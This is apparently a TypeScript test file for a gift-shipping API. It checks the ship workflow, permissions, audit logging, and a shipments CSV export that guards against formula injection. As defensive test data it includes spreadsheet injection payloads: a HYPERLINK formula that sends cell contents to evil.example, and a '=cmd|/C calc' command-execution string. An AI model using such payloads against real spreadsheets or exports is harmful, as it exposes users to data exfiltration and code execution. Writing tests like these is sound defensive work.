import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '#db/client.ts';
import { auditLog } from '#db/schema/index.ts';
import { safeCell, toCsv } from '#api/domain/csv-write.ts';
import { engines, freshDatabase } from '../../support/databases.ts';
import { testApi, invalid, type JsonOf } from '../../support/api.ts';
import { auditRows, expectProblem, expectStatus } from '../../support/expect-http.ts';
import { printFixtures, type Template } from './fixtures.ts';

type ShipView = {
	id: string;
	reference: string;
	status: string;
	recipientFirstName: string;
	items: { giftName: string; quantity: number }[];
	cardMessage: string;
	postage: { method: string; line: string | null };
	checklist: string[];
	canShip: boolean;
	shippedAt: string | null;
};

describe('formula-safe CSV cells', () => {
	it('defuses every formula start, including a leading NUL and line feed, and keeps one line per row', () => {
		for (const evil of [
			'=HYPERLINK("http://x","y")',
			'+31 6 1234',
			'-2+3',
			'@SUM(A1)',
			'\t=cmd',
			'\r=cmd',
			'\n=cmd',
			'\0=cmd',
			'\0\n=1+1',
			' =1+1'
		]) {
			const cell = safeCell(evil);
			expect(cell.startsWith("'"), JSON.stringify(evil)).toBe(true);
			expect(cell).not.toMatch(/[\u0000-\u001f]/);
		}
		expect(safeCell('Zoë van ’t Hek')).toBe('Zoë van ’t Hek');
		expect(safeCell('Dorps\nstraat')).toBe('Dorps straat');
		expect(
			toCsv(
				['a', 'b'],
				[
					['x,"y"', 5],
					[null, 'ok']
				]
			)
		).toBe('a,b\r\n"x,""y""",5\r\n,ok\r\n');
	});
});

describe.each(engines)('shipping and the shipments CSV on %s', (engine) => {
	let database: Database;
	let t: ReturnType<typeof testApi>;
	let p: ReturnType<typeof printFixtures>;
	let hub: Awaited<ReturnType<ReturnType<typeof testApi>['user']>>;
	let marketing: Awaited<ReturnType<ReturnType<typeof testApi>['user']>>;
	let label: Template;

	beforeAll(async () => {
		database = await freshDatabase(engine);
		t = testApi(database);
		p = printFixtures(database, t);
		hub = await t.user('hub', { name: 'Hanna de Vries' });
		marketing = await t.user('marketing');
		label = (await p.templates(hub.headers)).labels[0]!;
	}, 60_000);
	afterAll(async () => {
		await database?.close();
	});

	async function printLabels(surpriseIds: string[]) {
		const res = await t.client.api.v1.print.labels.$post(
			{ json: { surpriseIds, templateId: label.id } },
			{ headers: hub.headers }
		);
		expect(res.status, res.status === 200 ? '' : await res.text()).toBe(200);
	}
	const view = async (id: string, headers = hub.headers) =>
		expectStatus<ShipView>(
			await t.client.api.v1.print.ship[':id'].$get({ param: { id } }, { headers }),
			200
		);
	const ship = (
		id: string,
		json: JsonOf<(typeof t.client.api.v1.print.ship)[':id']['$post']>,
		headers = hub.headers
	) => t.client.api.v1.print.ship[':id'].$post({ param: { id }, json }, { headers });

	it('shows the ship page without the address or the internal note, and ships only with both boxes ticked', async () => {
		const { campaign, surprises } = await p.readyCampaign(hub, ['Zoë van ’t Hek'], {
			internalNote: 'GEHEIM',
			postage: 'franking'
		});
		const s = surprises[0]!;
		const before = await view(s.id, marketing.headers);
		expect(before).toMatchObject({
			reference: s.reference,
			status: 'ready',
			recipientFirstName: 'Zoë',
			canShip: false,
			checklist: ['cardIn', 'postageOn']
		});
		expect(before.postage).toEqual({ method: 'franking', line: 'Port betaald' });
		expect(before.items).toHaveLength(1);
		expect(JSON.stringify(before)).not.toContain('GEHEIM');
		expect(JSON.stringify(before)).not.toContain('Keizersgracht');

		// Not printed yet: 409, even with the checklist ticked.
		const early = await expectProblem(
			await ship(s.id, { checklist: { cardIn: true, postageOn: true } }),
			409
		);
		expect(early.detail).toContain('print');

		await printLabels([s.id]);
		expect((await view(s.id)).canShip).toBe(true);
		expect((await expectProblem(await ship(s.id, invalid({})), 400)).fields).toEqual([
			'checklist.cardIn',
			'checklist.postageOn'
		]);
		expect(
			(await expectProblem(await ship(s.id, { checklist: { cardIn: true } }), 400)).fields
		).toEqual(['checklist.postageOn']);
		expect(
			(
				await expectProblem(
					await ship(s.id, { checklist: { cardIn: false, postageOn: true } }),
					400
				)
			).fields
		).toEqual(['checklist.cardIn']);
		expect(
			(
				await expectProblem(
					await ship(s.id, { checklist: { cardIn: true, postageOn: true } }, marketing.headers),
					403
				)
			).code
		).toBe('forbidden');
		expect(await p.status(s.id, hub.headers)).toBe('printed');

		expect((await p.f.money(campaign.id)).spent).toBe(0);
		const shipped = await expectStatus<ShipView>(
			await ship(s.id, { checklist: { cardIn: true, postageOn: true } }),
			200
		);
		expect(shipped).toMatchObject({ status: 'shipped', canShip: false });
		expect(shipped.shippedAt).not.toBeNull();
		const money = await p.f.money(campaign.id);
		expect(money.spent).toBe(money.reserved); // the one surprise of the campaign is spent
		const audit = await auditRows(database, 'surprise.ship', s.id);
		expect(audit).toHaveLength(1);
		expect(audit[0]!.data).toMatchObject({
			from: 'printed',
			to: 'shipped',
			checklist: { cardIn: true, postageOn: true }
		});

		const twice = await expectProblem(
			await ship(s.id, { checklist: { cardIn: true, postageOn: true } }),
			409
		);
		expect(twice.detail).toContain('already shipped');
		await expectProblem(
			await t.client.api.v1.print.ship[':id'].$get(
				{ param: { id: crypto.randomUUID() } },
				{ headers: hub.headers }
			),
			404
		);
	});

	it('exports printed shipments as formula-safe CSV, audited per address', async () => {
		const names = [
			'=HYPERLINK("http://evil.example/?x="&A1,"klik")',
			'\n=cmd|/C calc',
			'Łukasz Żółć',
			'@Piet, "de" Boer'
		];
		const { campaign, surprises } = await p.readyCampaign(hub, names);
		const other = await p.readyCampaign(hub, ['Andere Campagne']);
		await printLabels([...surprises.map((s) => s.id), other.surprises[0]!.id]);
		await p.f.setting('shipment_weight_grams', 350);

		const res = await t.client.api.v1.print['shipments.csv'].$get(
			{ query: { campaignId: campaign.id } },
			{ headers: hub.headers }
		);
		expect(res.status, res.status === 200 ? '' : await res.clone().text()).toBe(200);
		expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(res.headers.get('content-disposition')).toContain('attachment');
		const csv = await res.text();
		const rows = parse(csv, { columns: true }) as Record<string, string>[];
		expect(Object.keys(rows[0]!)).toEqual([
			'reference',
			'name',
			'street',
			'house_number',
			'addition',
			'postcode',
			'city',
			'country',
			'weight_grams'
		]);
		expect(rows.map((r) => r.reference)).toEqual([...surprises].map((s) => s.reference).sort());
		const byRef = new Map(rows.map((r) => [r.reference, r]));
		expect(byRef.get(surprises[0]!.reference)!.name).toBe(
			`'=HYPERLINK("http://evil.example/?x="&A1,"klik")`
		);
		expect(byRef.get(surprises[1]!.reference)!.name).toBe(`'=cmd|/C calc`);
		expect(byRef.get(surprises[2]!.reference)).toMatchObject({
			name: 'Łukasz Żółć',
			street: 'Keizersgracht',
			house_number: '1',
			postcode: '1015 CJ',
			city: 'Amsterdam',
			country: 'NL',
			weight_grams: '350'
		});
		expect(byRef.get(surprises[3]!.reference)!.name).toBe(`'@Piet, "de" Boer`);
		for (const r of rows)
			for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0]/);
		expect(csv.split('\r\n')).toHaveLength(rows.length + 2);

		const reads = await database.db
			.select()
			.from(auditLog)
			.where(
				sql`${auditLog.action} = 'address.read' and ${auditLog.data}->>'reason' = 'shipment export'`
			);
		expect(reads).toHaveLength(surprises.length);
		const exported = await database.db
			.select()
			.from(auditLog)
			.where(eq(auditLog.action, 'shipment.export'));
		expect(exported.at(-1)!.data).toMatchObject({
			status: 'printed',
			rows: surprises.length,
			campaignId: campaign.id,
			email: false
		});

		// Email only on request; every campaign without a filter; other statuses.
		const withEmail = parse(
			await (
				await t.client.api.v1.print['shipments.csv'].$get(
					{ query: { campaignId: campaign.id, email: 'true' } },
					{ headers: hub.headers }
				)
			).text(),
			{ columns: true }
		) as Record<string, string>[];
		expect(withEmail[0]!.email).toMatch(/@example\.test$/);
		const all = parse(
			await (
				await t.client.api.v1.print['shipments.csv'].$get({ query: {} }, { headers: hub.headers })
			).text(),
			{ columns: true }
		) as Record<string, string>[];
		expect(all.map((r) => r.reference)).toContain(other.surprises[0]!.reference);
		const none = await (
			await t.client.api.v1.print['shipments.csv'].$get(
				{ query: { campaignId: campaign.id, status: 'shipped' } },
				{ headers: hub.headers }
			)
		).text();
		expect(none).toBe(
			'reference,name,street,house_number,addition,postcode,city,country,weight_grams\r\n'
		);

		expect(
			(
				await expectProblem(
					await t.client.api.v1.print['shipments.csv'].$get(
						{ query: { status: invalid('delivered') } },
						{ headers: hub.headers }
					),
					400
				)
			).fields
		).toEqual(['status']);
		await expectProblem(
			await t.client.api.v1.print['shipments.csv'].$get(
				{ query: { campaignId: crypto.randomUUID() } },
				{ headers: hub.headers }
			),
			404
		);
		await expectProblem(
			await t.client.api.v1.print['shipments.csv'].$get(
				{ query: {} },
				{ headers: marketing.headers }
			),
			403
		);
	});
});
